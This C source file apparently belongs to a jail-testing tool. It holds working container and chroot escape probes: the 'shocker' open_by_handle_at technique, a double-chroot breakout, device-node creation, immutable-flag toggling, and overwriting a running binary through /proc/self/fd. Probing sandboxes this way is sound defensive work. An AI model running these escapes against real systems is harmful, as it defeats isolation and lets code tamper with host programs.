/*
 * Copyright: (c) 2026, cellblock.jails contributors
 * GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Files, devices and ways out of a root directory.
 */
#include "attack.h"
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

/* Through when there is something to be read that is not the null device. */
static long read_file(char **word)
{
    struct stat facts;
    char bytes[8192]; /* /dev/kmsg gives whole records only */
    int file = open(word[0], O_RDONLY | O_NONBLOCK);

    if (file < 0 || fstat(file, &facts) < 0)
        return -1;
    if (S_ISCHR(facts.st_mode) && facts.st_rdev == makedev(1, 3))
        return fail(EACCES);
    long got = read(file, bytes, sizeof bytes);
    return got ? got : fail(ENODATA);
}

/* Through when it can be opened for writing and is not the null device; nothing is written. */
static long write_file(char **word)
{
    struct stat facts;
    int file = open(word[0], O_WRONLY | O_NONBLOCK);

    if (file < 0 || fstat(file, &facts) < 0)
        return -1;
    return S_ISCHR(facts.st_mode) && facts.st_rdev == makedev(1, 3) ? fail(EACCES) : 0;
}

/* Through when a device node can be made and the kernel asks its driver, should there be none. */
static long make_device(char **word)
{
    unlink(word[1]);
    if (mknod(word[1], (*word[0] == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(atoi(word[2]), atoi(word[3]))) < 0)
        return -1;
    int file = open(word[1], O_RDONLY | O_NONBLOCK);
    int number = errno;
    unlink(word[1]);
    return file < 0 && number != ENXIO && number != ENODEV ? fail(number) : 0;
}

struct handle {
    struct file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
};

/* Print the handle of a file: its type and its bytes. */
static long show_handle(char **word)
{
    struct handle handle = {.head.handle_bytes = MAX_HANDLE_SZ};
    int mount;

    if (name_to_handle_at(AT_FDCWD, word[0], &handle.head, &mount, 0) < 0)
        return -1;
    printf("%d ", handle.head.handle_type);
    for (unsigned i = 0; i < handle.head.handle_bytes; i++)
        printf("%02x", handle.head.f_handle[i]);
    putchar('\n');
    exit(0);
}

/* The "shocker": word[0] and word[1] are a handle of the root of the file system that we are on, word[2] the path of a
 * file from there. */
static long open_by_handle(char **word)
{
    struct handle handle = {.head.handle_type = atoi(word[0]), .head.handle_bytes = strlen(word[1]) / 2};

    for (unsigned i = 0; i < handle.head.handle_bytes; i++)
        sscanf(word[1] + 2 * i, "%2hhx", &handle.head.f_handle[i]);
    int here = open("/", O_RDONLY | O_DIRECTORY);
    int root = open_by_handle_at(here, &handle.head, O_RDONLY | O_DIRECTORY);
    return root < 0 ? root : openat(root, word[2], O_RDONLY);
}

/* Out of a chroot: go into another one and leave the working directory behind. */
static long leave_chroot(char **word)
{
    mkdir("/deeper", 0700);
    if (chroot("/deeper") < 0)
        return -1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return -1;
    if (chroot(".") < 0)
        return -1;
    return open(word[0], O_RDONLY);
}

static long make_immutable(char **word)
{
    int flags, file = open(word[0], O_RDONLY);

    if (file < 0 || ioctl(file, FS_IOC_GETFLAGS, &flags) < 0)
        return -1;
    flags |= FS_IMMUTABLE_FL;
    if (ioctl(file, FS_IOC_SETFLAGS, &flags) < 0)
        return -1;
    flags &= ~FS_IMMUTABLE_FL;
    return ioctl(file, FS_IOC_SETFLAGS, &flags);
}

/* Write to the program that a process runs: overwrite PATH, which leads there, as soon as it is not run any more. */
static long overwrite(char **word)
{
    char path[64];
    int program = open(word[0], O_PATH);

    if (program < 0)
        return -1;
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    for (int i = 0; i < 200; i++, usleep(10000)) {
        int file = open(path, O_WRONLY);
        if (file >= 0)
            return write(file, "overwritten", 11);
        if (errno != ETXTBSY)
            return -1;
    }
    return -1;
}

const struct attack files[] = {
    {"read", read_file},
    {"write", write_file},
    {"device", make_device},
    {"handle", show_handle},
    {"open_by_handle", open_by_handle},
    {"leave_chroot", leave_chroot},
    {"immutable", make_immutable},
    {"overwrite", overwrite},
    {NULL, NULL},
};
